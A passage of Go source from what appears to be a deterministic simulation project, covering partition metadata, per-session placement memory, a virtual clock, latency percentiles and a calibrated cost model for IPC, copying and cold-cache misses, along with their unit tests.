	if got := m.SplitAt(0, 7, 1); got != -1 {
		t.Fatalf("SplitAt at Hi should decline, got %d", got)
	}
}

func TestEvictRangeKeepsNewOwner(t *testing.T) {
	pm := NewMemory()
	pm.Touch(5, 0, 0, 0)  // in range, old owner: must cool
	pm.Touch(6, 2, 0, 0)  // in range, already at new owner: stays warm
	pm.Touch(50, 0, 0, 0) // out of range: untouched
	if n := pm.EvictRange(0, 10, 2); n != 1 {
		t.Fatalf("EvictRange cooled %d keys, want 1", n)
	}
	if _, _, ok := pm.WarmShard(5); ok {
		t.Fatal("key 5 should have been evicted")
	}
	if sh, _, ok := pm.WarmShard(6); !ok || sh != 2 {
		t.Fatal("key 6 at the new owner should have survived")
	}
	if sh, _, ok := pm.WarmShard(50); !ok || sh != 0 {
		t.Fatal("key 50 outside the range should have survived")
	}
	var nilPM *PlacementMemory
	if n := nilPM.EvictRange(0, 10, 0); n != 0 {
		t.Fatal("nil memory EvictRange must be a no-op")
	}
}
