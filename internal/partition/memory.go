package partition

import (
	"fmt"
	"sort"
	"sync"

	"freepart.dev/freepart/internal/vclock"
)

// trace is one session key's last known placement.
type trace struct {
	shard int             // shard slot the key last ran on
	gen   int             // that shard's generation (a replacement is cold)
	at    vclock.Duration // virtual time of the last touch
}

// PlacementMemory persists per-session placement history: which shard slot
// (and shard generation) each session key last ran on, so a returning
// session can be scored toward the shard whose simulated page cache still
// holds its working set. A nil *PlacementMemory is inert — every query
// answers "no history" and every update is a no-op — which is the zero-cost
// disabled configuration.
//
// The memory is deterministic and byte-replayable: state is a pure function
// of the Touch/Rehome/Evict call sequence, and Encode renders it in a
// canonical sorted form so two replays can be compared byte-for-byte.
type PlacementMemory struct {
	mu     sync.Mutex
	traces map[uint64]trace
	hits   uint64
	misses uint64
}

// NewMemory creates an empty placement memory.
func NewMemory() *PlacementMemory {
	return &PlacementMemory{traces: map[uint64]trace{}}
}

// WarmShard returns the shard slot and generation the key last ran on.
// ok is false when the memory is nil or has never seen the key.
func (pm *PlacementMemory) WarmShard(key uint64) (shard, gen int, ok bool) {
	if pm == nil {
		return -1, -1, false
	}
	pm.mu.Lock()
	defer pm.mu.Unlock()
	t, ok := pm.traces[key]
	if !ok {
		return -1, -1, false
	}
	return t.shard, t.gen, true
}

// Touch records that key is now running on (shard, gen) at virtual time at,
// and reports whether the landing was warm — the key's previous trace named
// the same shard slot at the same generation. First sightings and
// generation changes (the shard was replaced, its cache is gone) are cold.
// Nil memories report cold without recording, so a disabled configuration
// never accumulates state.
func (pm *PlacementMemory) Touch(key uint64, shard, gen int, at vclock.Duration) (warm bool) {
	if pm == nil {
		return false
	}
	pm.mu.Lock()
	defer pm.mu.Unlock()
	prev, seen := pm.traces[key]
	warm = seen && prev.shard == shard && prev.gen == gen
	if warm {
		pm.hits++
	} else {
		pm.misses++
	}
	pm.traces[key] = trace{shard: shard, gen: gen, at: at}
	return warm
}

// Rehome rewrites every trace pointing at shard from to point at shard to
// with generation gen, and returns how many keys moved. The rebalance drill
// uses it after migrating a partition's sessions so their next visit scores
// toward the new home. When keys is non-nil only those keys are rehomed.
func (pm *PlacementMemory) Rehome(from, to, gen int, keys map[uint64]bool) int {
	if pm == nil {
		return 0
	}
	pm.mu.Lock()
	defer pm.mu.Unlock()
	moved := 0
	for k, t := range pm.traces {
		if t.shard != from {
			continue
		}
		if keys != nil && !keys[k] {
			continue
		}
		t.shard, t.gen = to, gen
		pm.traces[k] = t
		moved++
	}
	return moved
}

// Evict forgets every trace pointing at shard slot id — the slot's process
// was replaced and its page cache is gone. Returns how many keys cooled.
func (pm *PlacementMemory) Evict(id int) int {
	if pm == nil {
		return 0
	}
	pm.mu.Lock()
	defer pm.mu.Unlock()
	n := 0
	for k, t := range pm.traces {
		if t.shard == id {
			delete(pm.traces, k)
			n++
		}
	}
	return n
}

// EvictRange forgets every trace whose key is in [lo, hi) except traces
// already pointing at shard slot keep. A rebalance that moves a range to a
// new owner calls this after migrating the range's live sessions: the old
// owner's cache claim over the range is revoked, so the next visit of every
// non-migrated key follows the new partition preference (one cold landing,
// warm thereafter) instead of a stale trace steering it back to the shard
// the range just left. Returns how many keys cooled.
func (pm *PlacementMemory) EvictRange(lo, hi uint64, keep int) int {
	if pm == nil {
		return 0
	}
	pm.mu.Lock()
	defer pm.mu.Unlock()
	n := 0
	for k, t := range pm.traces {
		if k >= lo && k < hi && t.shard != keep {
			delete(pm.traces, k)
			n++
		}
	}
	return n
}

// Stats returns the cumulative warm-hit and cold-miss counts.
func (pm *PlacementMemory) Stats() (hits, misses uint64) {
	if pm == nil {
		return 0, 0
	}
	pm.mu.Lock()
	defer pm.mu.Unlock()
	return pm.hits, pm.misses
}

// HitRatio returns hits / (hits + misses), or 0 before any touch.
func (pm *PlacementMemory) HitRatio() float64 {
	h, m := pm.Stats()
	if h+m == 0 {
		return 0
	}
	return float64(h) / float64(h+m)
}

// Len returns the number of keys remembered.
func (pm *PlacementMemory) Len() int {
	if pm == nil {
		return 0
	}
	pm.mu.Lock()
	defer pm.mu.Unlock()
	return len(pm.traces)
}

// Encode renders the memory in a canonical byte form — keys in ascending
// order, one line each — so replay tests can compare two memories
// byte-for-byte. A nil memory encodes to nil.
func (pm *PlacementMemory) Encode() []byte {
	if pm == nil {
		return nil
	}
	pm.mu.Lock()
	defer pm.mu.Unlock()
	keys := make([]uint64, 0, len(pm.traces))
	for k := range pm.traces {
		keys = append(keys, k)
	}
	sort.Slice(keys, func(i, j int) bool { return keys[i] < keys[j] })
	out := fmt.Sprintf("memory hits=%d misses=%d\n", pm.hits, pm.misses)
	for _, k := range keys {
		t := pm.traces[k]
		out += fmt.Sprintf("key %d shard=%d gen=%d at=%d\n", k, t.shard, t.gen, int64(t.at))
	}
	return []byte(out)
}
