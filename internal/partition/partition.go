// Package partition attaches explicit partitioning metadata to streaming
// workloads and remembers where each session's cache is warm.
//
// A Meta describes how a workload's session-key space is carved into
// partitions — hash or range strategy, per-partition size and class
// distribution, and a preferred shard slot per partition — mirroring the
// metadata a data partitioner ships alongside each split so the placement
// layer can make cost-aware decisions instead of uniform ones. A
// PlacementMemory persists per-session placement history so a returning
// session can be scored toward the shard whose (simulated) page cache still
// holds its working set; the warm-hit/cold-miss spread is priced by
// vclock.CostModel.ColdMissCost the same way socket hops already are.
//
// Everything here is deterministic and byte-replayable: iteration orders
// are sorted, no wall clock or global RNG is consulted, and Encode renders
// a canonical byte form so replay tests can compare whole memories.
package partition

import (
	"fmt"
	"sort"
)

// Strategy selects how session keys map onto partitions.
type Strategy int

const (
	// Hash partitions by key modulo partition count — uniform spread,
	// no range semantics.
	Hash Strategy = iota
	// Range partitions by contiguous key intervals — preserves locality
	// of adjacent keys and supports splitting a hot range in two.
	Range
)

// String renders the strategy name.
func (s Strategy) String() string {
	switch s {
	case Hash:
		return "hash"
	case Range:
		return "range"
	}
	return fmt.Sprintf("strategy(%d)", int(s))
}

// Info is one partition's metadata: its key interval (for Range; Hash
// partitions use Lo as the residue class), accumulated size and session
// counts, the class distribution of its traffic, and the shard slot the
// scheduler should prefer for it.
type Info struct {
	// ID is the partition's index in Meta.Parts.
	ID int
	// Lo and Hi bound the partition's keys: Range partitions own keys in
	// [Lo, Hi); Hash partitions own keys with key % len(parts) == Lo.
	Lo, Hi uint64
	// Bytes is the cumulative working-set bytes attributed to the
	// partition's sessions.
	Bytes int64
	// Sessions is the cumulative session-visit count.
	Sessions int
	// Classes is the partition's traffic class distribution (class name →
	// visit count), e.g. detection vs grading traffic.
	Classes map[string]int
	// Preferred is the shard slot the placer should steer this partition
	// toward, or -1 when unset.
	Preferred int
}

// Meta is a workload's partitioning descriptor.
type Meta struct {
	// Strategy picks the key→partition mapping.
	Strategy Strategy
	// KeySpace is the exclusive upper bound of session keys (Range only).
	KeySpace uint64
	// Parts holds the partitions, ordered by ID; Range partitions are
	// also ordered by Lo and tile [0, KeySpace).
	Parts []Info
}

// New builds a Meta with n partitions over keys in [0, keySpace). Range
// metas get equal-width intervals; Hash metas get residue classes. All
// preferred slots start unset (-1).
func New(strategy Strategy, n int, keySpace uint64) *Meta {
	if n <= 0 {
		n = 1
	}
	if keySpace == 0 {
		keySpace = 1
	}
	m := &Meta{Strategy: strategy, KeySpace: keySpace}
	for i := 0; i < n; i++ {
		p := Info{ID: i, Preferred: -1, Classes: map[string]int{}}
		if strategy == Range {
			w := keySpace / uint64(n)
			p.Lo = uint64(i) * w
			p.Hi = p.Lo + w
			if i == n-1 {
				p.Hi = keySpace
			}
		} else {
			p.Lo = uint64(i)
		}
		m.Parts = append(m.Parts, p)
	}
	return m
}

// PartitionOf maps a session key to its partition's ID. Unknown keys
// (beyond KeySpace under Range) land in the last partition.
func (m *Meta) PartitionOf(key uint64) int {
	if m == nil || len(m.Parts) == 0 {
		return -1
	}
	if m.Strategy == Hash {
		return int(key % uint64(len(m.Parts)))
	}
	// Parts tile the key space in Lo order; binary search the interval.
	i := sort.Search(len(m.Parts), func(i int) bool { return key < m.Parts[i].Hi })
	if i == len(m.Parts) {
		return m.Parts[len(m.Parts)-1].ID
	}
	return m.Parts[i].ID
}

// Prefer steers partition part toward shard slot. No-op for unknown parts.
func (m *Meta) Prefer(part, slot int) {
	if m == nil || part < 0 || part >= len(m.Parts) {
		return
	}
	m.Parts[part].Preferred = slot
}

// Preferred returns the preferred shard slot for the partition owning key,
// or -1 when the key is unmapped or the partition has no preference.
func (m *Meta) Preferred(key uint64) int {
	p := m.PartitionOf(key)
	if p < 0 {
		return -1
	}
	return m.Parts[p].Preferred
}

// Record accumulates one session visit into the owning partition's
// metadata: bytes of working set and a traffic class tick.
func (m *Meta) Record(key uint64, bytes int64, class string) {
	p := m.PartitionOf(key)
	if p < 0 {
		return
	}
	info := &m.Parts[p]
	info.Bytes += bytes
	info.Sessions++
	if class != "" {
		if info.Classes == nil {
			info.Classes = map[string]int{}
		}
		info.Classes[class]++
	}
}

// Split divides a Range partition at its key midpoint: the original keeps
// [Lo, mid) and a new partition (appended, re-IDed in Lo order) takes
// [mid, Hi) with the given preferred slot. Returns the new partition's ID,
// or -1 when the split is impossible (hash strategy, unknown part, or an
// interval of width < 2).
func (m *Meta) Split(part, preferred int) int {
	if m == nil || m.Strategy != Range || part < 0 || part >= len(m.Parts) {
		return -1
	}
	p := m.Parts[part]
	if p.Hi-p.Lo < 2 {
		return -1
	}
	return m.SplitAt(part, p.Lo+(p.Hi-p.Lo)/2, preferred)
}

// SplitAt divides a Range partition at an explicit key: the original keeps
// [Lo, at) and a new partition (re-IDed in Lo order) takes [at, Hi) with
// the given preferred slot. Splitting at the observed load midpoint rather
// than the key midpoint is what makes a hot-range split effective when
// popularity concentrates at one end of the range — the same reason
// range-sharded stores split regions at the data median, not the key-space
// median. Accumulated size and class counts stay with the lower half (they
// describe history, not the future). Returns the new partition's ID, or -1
// when the split is impossible (hash strategy, unknown part, or a split
// point outside (Lo, Hi)).
func (m *Meta) SplitAt(part int, at uint64, preferred int) int {
	if m == nil || m.Strategy != Range || part < 0 || part >= len(m.Parts) {
		return -1
	}
	p := m.Parts[part]
	if at <= p.Lo || at >= p.Hi {
		return -1
	}
	mid := at
	m.Parts[part].Hi = mid
	m.Parts = append(m.Parts, Info{
		Lo: mid, Hi: p.Hi, Preferred: preferred, Classes: map[string]int{},
	})
	sort.Slice(m.Parts, func(i, j int) bool { return m.Parts[i].Lo < m.Parts[j].Lo })
	newID := -1
	for i := range m.Parts {
		m.Parts[i].ID = i
		if m.Parts[i].Lo == mid {
			newID = i
		}
	}
	return newID
}

// Clone deep-copies the meta so a drill can mutate its own view.
func (m *Meta) Clone() *Meta {
	if m == nil {
		return nil
	}
	c := &Meta{Strategy: m.Strategy, KeySpace: m.KeySpace}
	c.Parts = make([]Info, len(m.Parts))
	copy(c.Parts, m.Parts)
	for i := range c.Parts {
		if m.Parts[i].Classes != nil {
			cl := make(map[string]int, len(m.Parts[i].Classes))
			for k, v := range m.Parts[i].Classes {
				cl[k] = v
			}
			c.Parts[i].Classes = cl
		}
	}
	return c
}

// Encode renders the meta in a canonical byte form (sorted class keys) for
// byte-replayability comparisons.
func (m *Meta) Encode() []byte {
	if m == nil {
		return nil
	}
	out := fmt.Sprintf("meta %s keyspace=%d\n", m.Strategy, m.KeySpace)
	for _, p := range m.Parts {
		out += fmt.Sprintf("part %d [%d,%d) bytes=%d sessions=%d pref=%d",
			p.ID, p.Lo, p.Hi, p.Bytes, p.Sessions, p.Preferred)
		names := make([]string, 0, len(p.Classes))
		for k := range p.Classes {
			names = append(names, k)
		}
		sort.Strings(names)
		for _, k := range names {
			out += fmt.Sprintf(" %s=%d", k, p.Classes[k])
		}
		out += "\n"
	}
	return []byte(out)
}
