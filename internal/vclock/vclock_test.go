package vclock

import (
	"testing"
	"testing/quick"
	"time"
)

func TestClockStartsAtZero(t *testing.T) {
	c := New()
	if got := c.Now(); got != 0 {
		t.Fatalf("new clock Now() = %v, want 0", got)
	}
}

func TestClockAdvance(t *testing.T) {
	c := New()
	c.Advance(5 * time.Millisecond)
	c.Advance(3 * time.Millisecond)
	if got, want := c.Now(), 8*time.Millisecond; got != want {
		t.Fatalf("Now() = %v, want %v", got, want)
	}
}

func TestClockNegativeAdvanceIgnored(t *testing.T) {
	c := New()
	c.Advance(time.Second)
	c.Advance(-time.Hour)
	if got, want := c.Now(), time.Second; got != want {
		t.Fatalf("Now() = %v after negative advance, want %v", got, want)
	}
}

func TestClockReset(t *testing.T) {
	c := New()
	c.Advance(time.Minute)
	c.Reset()
	if got := c.Now(); got != 0 {
		t.Fatalf("Now() after Reset = %v, want 0", got)
	}
}

func TestClockConcurrentAdvance(t *testing.T) {
	c := New()
	const workers, per = 8, 1000
	done := make(chan struct{})
	for i := 0; i < workers; i++ {
		go func() {
			for j := 0; j < per; j++ {
				c.Advance(time.Nanosecond)
			}
			done <- struct{}{}
		}()
	}
	for i := 0; i < workers; i++ {
		<-done
	}
	if got, want := c.Now(), time.Duration(workers*per); got != want {
		t.Fatalf("concurrent Now() = %v, want %v", got, want)
	}
}

func TestClockMonotonic(t *testing.T) {
	c := New()
	prev := c.Now()
	f := func(d int32) bool {
		now := c.Advance(time.Duration(d))
		ok := now >= prev
		prev = now
		return ok
	}
	if err := quick.Check(f, nil); err != nil {
		t.Fatal(err)
	}
}

func TestDefaultCostModelPositive(t *testing.T) {
	m := Default()
	if m.IPCRoundTrip <= 0 || m.CopyPerBytePS <= 0 || m.Syscall <= 0 ||
		m.MProtect <= 0 || m.ProcessSpawn <= 0 || m.ComputePerBytePS <= 0 ||
		m.APIFixed <= 0 || m.SeccompCheck <= 0 || m.PageTouch <= 0 ||
		m.DeviceReadPerBytePS <= 0 || m.CheckpointPerBytePS <= 0 {
		t.Fatalf("default cost model has non-positive constant: %+v", m)
	}
}

func TestCopyCost(t *testing.T) {
	m := Default()
	if got := m.CopyCost(0); got != 0 {
		t.Fatalf("CopyCost(0) = %v, want 0", got)
	}
	if got := m.CopyCost(-5); got != 0 {
		t.Fatalf("CopyCost(-5) = %v, want 0", got)
	}
	// 1000 bytes at 1.5 ns/B = 1500 ns.
	if got, want := m.CopyCost(1000), 1500*time.Nanosecond; got != want {
		t.Fatalf("CopyCost(1000) = %v, want %v", got, want)
	}
}

func TestCopyCostMonotoneInSize(t *testing.T) {
	m := Default()
	f := func(a, b uint16) bool {
		x, y := int(a), int(b)
		if x > y {
			x, y = y, x
		}
		return m.CopyCost(x) <= m.CopyCost(y)
	}
	if err := quick.Check(f, nil); err != nil {
		t.Fatal(err)
	}
}

func TestComputeCost(t *testing.T) {
	m := Default()
	if got := m.ComputeCost(100, 0); got != 0 {
		t.Fatalf("zero intensity ComputeCost = %v, want 0", got)
	}
	if got := m.ComputeCost(-1, 1); got != 0 {
		t.Fatalf("negative size ComputeCost = %v, want 0", got)
	}
	lin := m.ComputeCost(1<<20, 1)
	conv := m.ComputeCost(1<<20, 9)
	if conv <= lin {
		t.Fatalf("intensity 9 (%v) should cost more than intensity 1 (%v)", conv, lin)
	}
}

func TestDeviceAndCheckpointCost(t *testing.T) {
	m := Default()
	if m.DeviceReadCost(1<<20) <= 0 {
		t.Fatal("DeviceReadCost(1MiB) should be positive")
	}
	if m.CheckpointCost(1<<20) <= 0 {
		t.Fatal("CheckpointCost(1MiB) should be positive")
	}
	if m.DeviceReadCost(-1) != 0 || m.CheckpointCost(-1) != 0 {
		t.Fatal("negative sizes should cost 0")
	}
}

func TestPerAPIIsolationRatioShape(t *testing.T) {
	// Sanity-check the calibration: copying 42.7 GB at the modeled rate must
	// dominate a 54 s baseline by roughly the Table 9 ratio (121.8/54.1≈2.3).
	m := Default()
	gb := 42.7
	added := m.CopyCost(int(gb * float64(1<<30)))
	base := 54 * time.Second
	ratio := float64(base+added) / float64(base)
	if ratio < 1.8 || ratio > 3.0 {
		t.Fatalf("per-API isolation ratio = %.2f, want within [1.8, 3.0]", ratio)
	}
}

// --- per-shard clock merging ---

func TestObserveMaxMerge(t *testing.T) {
	c := New()
	c.Advance(100)
	if got := c.Observe(50); got != 100 {
		t.Fatalf("observe(50) = %v, want 100 (merge never rewinds)", got)
	}
	if got := c.Observe(250); got != 250 {
		t.Fatalf("observe(250) = %v, want 250", got)
	}
	if c.Now() != 250 {
		t.Fatalf("now = %v, want 250", c.Now())
	}
}

func TestMaxAcrossClocks(t *testing.T) {
	a, b, c := New(), New(), New()
	a.Advance(10)
	b.Advance(300)
	c.Advance(42)
	if got := Max(a, nil, b, c); got != 300 {
		t.Fatalf("Max = %v, want 300 (critical path)", got)
	}
	if got := Max(); got != 0 {
		t.Fatalf("Max() = %v, want 0", got)
	}
}

func TestLatencyPercentiles(t *testing.T) {
	l := &Latencies{}
	for i := 1; i <= 100; i++ {
		l.Add(Duration(i))
	}
	if l.Len() != 100 {
		t.Fatalf("len = %d", l.Len())
	}
	for _, tc := range []struct {
		p    float64
		want Duration
	}{{50, 50}, {95, 95}, {99, 99}, {0, 1}, {100, 100}} {
		if got := l.Percentile(tc.p); got != tc.want {
			t.Fatalf("p%v = %v, want %v", tc.p, got, tc.want)
		}
	}
	if l.P50() != 50 || l.P95() != 95 || l.P99() != 99 {
		t.Fatalf("named percentiles wrong: %v", l)
	}
	if l.Mean() != 50 { // (1+...+100)/100 = 50.5 truncated
		t.Fatalf("mean = %v, want 50", l.Mean())
	}
}

func TestLatencyEmptyAndNegative(t *testing.T) {
	l := &Latencies{}
	if l.P99() != 0 || l.Mean() != 0 {
		t.Fatal("empty distribution must read zero")
	}
	l.Add(-5)
	if l.P50() != 0 {
		t.Fatalf("negative sample must clamp to zero, got %v", l.P50())
	}
}

func TestColdMissCost(t *testing.T) {
	m := Default()
	if m.CacheFault <= 0 || m.ColdMissPerBytePS <= 0 {
		t.Fatalf("default cost model has non-positive cold-miss constants: %+v", m)
	}
	if got, want := m.ColdMissCost(0), m.CacheFault; got != want {
		t.Fatalf("ColdMissCost(0) = %v, want the fixed fault cost %v", got, want)
	}
	if got, want := m.ColdMissCost(-3), m.CacheFault; got != want {
		t.Fatalf("ColdMissCost(-3) = %v, want %v", got, want)
	}
	// 1000 bytes at 1.2 ns/B on top of the fixed fault.
	if got, want := m.ColdMissCost(1000), m.CacheFault+1200*time.Nanosecond; got != want {
		t.Fatalf("ColdMissCost(1000) = %v, want %v", got, want)
	}
	// A cold miss must out-price a cross-socket hop for the same bytes —
	// otherwise partition-aware placement could never beat pure locality.
	if m.ColdMissCost(4096) <= m.CrossSocketCost(4096) {
		t.Fatalf("ColdMissCost(4096)=%v should exceed CrossSocketCost(4096)=%v",
			m.ColdMissCost(4096), m.CrossSocketCost(4096))
	}
}
