package vclock

import "time"

// CostModel holds the virtual-time cost constants of the simulation.
//
// Calibration rationale. The paper's testbed (i7-9750H, §5) reports that the
// motivating example takes 54.1 s unprotected and that per-API isolation —
// 12,411 IPCs moving 42.7 GB — takes 121.8 s (Table 9). That implies the
// bulk of isolation overhead is byte copying (~42.7 GB over ~67.7 s of added
// time ≈ 0.63 GB/s effective, i.e. ~1.5 ns/B including protocol overhead)
// plus a fixed per-round-trip latency of ~2 µs, consistent with shm+futex
// ping-pong on commodity hardware. The constants below reproduce
// those ratios; matching the authors' absolute wall-clock numbers is a
// non-goal (our substrate is a simulator).
//
// Per-byte costs are stored in picoseconds so sub-nanosecond rates (e.g.
// 1.5 ns/B) stay exact under integer arithmetic.
type CostModel struct {
	// IPCRoundTrip is the fixed cost of one request/response over a ring
	// buffer channel (enqueue, wakeup, dequeue, reply).
	IPCRoundTrip Duration
	// IPCTimeout is the virtual time a caller loses waiting out a lost
	// message before retrying (the RPC-layer retransmission timeout).
	IPCTimeout Duration
	// CopyPerBytePS is the cost in picoseconds of copying one byte between
	// address spaces through the marshalled path (serialize + memcpy +
	// deserialize) — eager payload shipping through the host.
	CopyPerBytePS int64
	// DirectCopyPerBytePS is the cost of the lazy-data-copy path: a raw
	// buffer copy straight between two agents' shared-memory segments,
	// with no serialization (§4.3.2, Fig. 11-(a)).
	DirectCopyPerBytePS int64
	// Syscall is the fixed entry/exit cost of one simulated system call.
	Syscall Duration
	// SeccompCheck is the added per-syscall cost of filter evaluation.
	SeccompCheck Duration
	// MProtect is the cost of one page-permission change.
	MProtect Duration
	// PageTouch is the per-page cost of applying a permission change.
	PageTouch Duration
	// ProcessSpawn is the cost of creating (or restarting) an agent process.
	ProcessSpawn Duration
	// ComputePerBytePS is the baseline compute cost in picoseconds of
	// processing one byte of input inside a framework API (e.g. a blur
	// visits every pixel).
	ComputePerBytePS int64
	// APIFixed is the fixed dispatch cost of any framework API call.
	APIFixed Duration
	// DeviceReadPerBytePS is the extra per-byte cost in picoseconds of
	// reading from a device or file (simulated storage is slower than
	// memory).
	DeviceReadPerBytePS int64
	// CheckpointPerBytePS is the per-byte cost in picoseconds of writing a
	// stateful-API checkpoint (restart support, §A.2.4).
	CheckpointPerBytePS int64
	// SocketHop is the fixed cost of one cross-socket interconnect round
	// trip in the simulated NUMA topology — paid once whenever a session's
	// state moves to a shard homed on a different socket.
	SocketHop Duration
	// CrossSocketPerBytePS is the added per-byte cost in picoseconds of
	// moving checkpoint state across sockets during a migration: remote
	// memory bandwidth is lower than local, so a cross-socket move pays
	// this on top of the normal materialization cost.
	CrossSocketPerBytePS int64
	// DomainSwitch is the fixed cost of one protection-key domain entry or
	// exit: a WRPKRU write plus pipeline serialization. ERIM measures the
	// switch at ~100 cycles (~30 ns) — the reason MPK domains undercut
	// process IPC by two orders of magnitude per call.
	DomainSwitch Duration
	// DomainCopyPerBytePS is the per-byte cost in picoseconds of moving a
	// buffer between protection domains inside one address space: a plain
	// memcpy with no serialization, no page remapping, and warm caches.
	DomainCopyPerBytePS int64
	// CacheFault is the fixed cost of the first touch of a session's
	// working set on a shard whose (simulated) page cache is cold: a major
	// fault's trap, page allocation, and read-ahead setup.
	CacheFault Duration
	// ColdMissPerBytePS is the per-byte cost in picoseconds of re-reading a
	// session's working set from backing storage into a cold page cache.
	// A warm shard pays neither this nor CacheFault — the spread between
	// the two is what partition-aware placement arbitrages, exactly as
	// SocketHop/CrossSocketPerBytePS price NUMA-oblivious migration.
	ColdMissPerBytePS int64
}

// Default returns the calibrated cost model used by all experiments.
func Default() CostModel {
	return CostModel{
		IPCRoundTrip:         2 * time.Microsecond,
		IPCTimeout:           100 * time.Microsecond,
		CopyPerBytePS:        1500, // 1.5 ns/B, marshalled path
		DirectCopyPerBytePS:  500,  // 0.5 ns/B, raw agent-to-agent copy
		Syscall:              300 * time.Nanosecond,
		SeccompCheck:         60 * time.Nanosecond,
		MProtect:             800 * time.Nanosecond,
		PageTouch:            25 * time.Nanosecond,
		ProcessSpawn:         250 * time.Microsecond,
		ComputePerBytePS:     5000, // 5 ns/B per pass (real CV kernels run 5-150 ns/B)
		APIFixed:             1 * time.Microsecond,
		DeviceReadPerBytePS:  1000, // 1 ns/B
		CheckpointPerBytePS:  1000, // 1 ns/B
		SocketHop:            500 * time.Nanosecond,
		CrossSocketPerBytePS: 800,                  // 0.8 ns/B of remote-memory penalty
		DomainSwitch:         30 * time.Nanosecond, // ~100 cycles per WRPKRU (ERIM)
		DomainCopyPerBytePS:  250,                  // 0.25 ns/B, in-address-space memcpy
		CacheFault:           2 * time.Microsecond, // major-fault trap + alloc + read-ahead
		ColdMissPerBytePS:    1200,                 // 1.2 ns/B re-read from backing storage
	}
}

// psToDuration converts a picosecond total to a Duration, rounding to the
// nearest nanosecond.
func psToDuration(ps int64) Duration {
	if ps < 0 {
		ps = 0
	}
	return Duration((ps + 500) / 1000)
}

// CopyCost returns the virtual cost of copying n bytes across processes
// through the marshalled path.
func (m CostModel) CopyCost(n int) Duration {
	if n < 0 {
		n = 0
	}
	return psToDuration(int64(n) * m.CopyPerBytePS)
}

// DirectCopyCost returns the virtual cost of a raw agent-to-agent copy of
// n bytes (the lazy-data-copy fast path).
func (m CostModel) DirectCopyCost(n int) Duration {
	if n < 0 {
		n = 0
	}
	return psToDuration(int64(n) * m.DirectCopyPerBytePS)
}

// DomainSwitchCost returns the fixed virtual cost of one protection-key
// domain entry or exit (charged twice per domain-tier call: in and out).
func (m CostModel) DomainSwitchCost() Duration {
	return m.DomainSwitch
}

// DomainCopyCost returns the virtual cost of moving n bytes between
// protection domains inside one address space — the cheapest copy tier,
// under both the marshalled path (CopyCost) and the raw cross-space path
// (DirectCopyCost).
func (m CostModel) DomainCopyCost(n int) Duration {
	if n < 0 {
		n = 0
	}
	return psToDuration(int64(n) * m.DomainCopyPerBytePS)
}

// ComputeCost returns the virtual cost of an API touching n bytes with a
// per-API intensity factor (1 = linear single pass; a 3x3 convolution is ~9).
func (m CostModel) ComputeCost(n int, intensity float64) Duration {
	if n < 0 || intensity <= 0 {
		return 0
	}
	return psToDuration(int64(float64(int64(n)*m.ComputePerBytePS) * intensity))
}

// DeviceReadCost returns the virtual cost of reading n bytes from a
// simulated device or file, on top of the copy into memory.
func (m CostModel) DeviceReadCost(n int) Duration {
	if n < 0 {
		n = 0
	}
	return psToDuration(int64(n) * m.DeviceReadPerBytePS)
}

// CheckpointCost returns the virtual cost of checkpointing n bytes of
// stateful-API state.
func (m CostModel) CheckpointCost(n int) Duration {
	if n < 0 {
		n = 0
	}
	return psToDuration(int64(n) * m.CheckpointPerBytePS)
}

// CrossSocketCost returns the virtual cost of moving n bytes of session
// state to a shard on another socket: one interconnect hop plus the
// remote-bandwidth penalty per byte. Same-socket moves pay neither.
func (m CostModel) CrossSocketCost(n int) Duration {
	if n < 0 {
		n = 0
	}
	return m.SocketHop + psToDuration(int64(n)*m.CrossSocketPerBytePS)
}

// ColdMissCost returns the virtual cost of a session's first touch of n
// working-set bytes on a shard whose page cache is cold: one major fault
// plus the storage re-read per byte. A warm hit costs nothing.
func (m CostModel) ColdMissCost(n int) Duration {
	if n < 0 {
		n = 0
	}
	return m.CacheFault + psToDuration(int64(n)*m.ColdMissPerBytePS)
}
