package vclock

import (
	"fmt"
	"math"
	"sort"
	"sync"
)

// Latencies accumulates per-request virtual latencies and reports
// percentiles. Samples are virtual durations, so every statistic is
// bit-reproducible across runs. Safe for concurrent Add.
type Latencies struct {
	mu      sync.Mutex
	samples []Duration
}

// Add records one latency sample. Negative samples are clamped to zero
// (virtual latency cannot be negative; a crashed shard clock reads zero).
func (l *Latencies) Add(d Duration) {
	if d < 0 {
		d = 0
	}
	l.mu.Lock()
	defer l.mu.Unlock()
	l.samples = append(l.samples, d)
}

// Len returns the number of recorded samples.
func (l *Latencies) Len() int {
	l.mu.Lock()
	defer l.mu.Unlock()
	return len(l.samples)
}

// sorted returns a sorted copy of the samples.
func (l *Latencies) sorted() []Duration {
	l.mu.Lock()
	out := make([]Duration, len(l.samples))
	copy(out, l.samples)
	l.mu.Unlock()
	sort.Slice(out, func(i, j int) bool { return out[i] < out[j] })
	return out
}

// Percentile returns the nearest-rank percentile p in [0, 100]. Zero
// samples read as zero.
func (l *Latencies) Percentile(p float64) Duration {
	s := l.sorted()
	if len(s) == 0 {
		return 0
	}
	if p <= 0 {
		return s[0]
	}
	if p >= 100 {
		return s[len(s)-1]
	}
	// Nearest-rank: ceil(p/100 * n), 1-based.
	rank := int(math.Ceil(p / 100 * float64(len(s))))
	if rank < 1 {
		rank = 1
	}
	if rank > len(s) {
		rank = len(s)
	}
	return s[rank-1]
}

// P50 is the median latency.
func (l *Latencies) P50() Duration { return l.Percentile(50) }

// P95 is the 95th-percentile latency.
func (l *Latencies) P95() Duration { return l.Percentile(95) }

// P99 is the 99th-percentile latency.
func (l *Latencies) P99() Duration { return l.Percentile(99) }

// Mean is the average latency (integer division of virtual nanoseconds).
func (l *Latencies) Mean() Duration {
	l.mu.Lock()
	defer l.mu.Unlock()
	if len(l.samples) == 0 {
		return 0
	}
	var sum Duration
	for _, d := range l.samples {
		sum += d
	}
	return sum / Duration(len(l.samples))
}

// String summarizes the distribution on one line.
func (l *Latencies) String() string {
	return fmt.Sprintf("n=%d p50=%v p95=%v p99=%v", l.Len(), l.P50(), l.P95(), l.P99())
}
