// Package vclock provides a deterministic virtual clock and the cost model
// used by the FreePart simulation substrate.
//
// All simulated work (API compute, IPC transfers, data copies, syscalls,
// permission changes, process spawns) advances a virtual clock instead of
// depending on wall time. This makes every experiment bit-reproducible while
// preserving the *relative* costs that the paper's evaluation depends on:
// IPC round trips and byte copies dominate isolation overhead, so techniques
// that issue more of them are proportionally slower.
package vclock

import (
	"fmt"
	"sync"
	"time"
)

// Duration is virtual time measured in nanoseconds, mirroring time.Duration
// so cost arithmetic reads naturally.
type Duration = time.Duration

// Clock is a monotonically advancing virtual clock. The zero value is ready
// to use and starts at virtual time zero. Clock is safe for concurrent use.
type Clock struct {
	mu  sync.Mutex
	now Duration
}

